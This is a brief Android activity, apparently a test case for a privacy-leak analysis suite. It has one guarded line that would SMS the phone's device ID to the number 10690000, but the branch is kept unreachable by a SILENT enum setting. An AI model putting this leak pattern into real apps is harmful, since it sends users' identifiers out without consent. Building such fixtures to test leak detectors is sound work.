package cn.privlens.suite.enum_mode;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    enum Mode { SILENT, LOUD }
    private final Mode mode = Mode.SILENT;
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        if (mode == Mode.LOUD) {
            SmsManager.getDefault().sendTextMessage("10690000", null, ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId(), null, null);
        }
    }
}
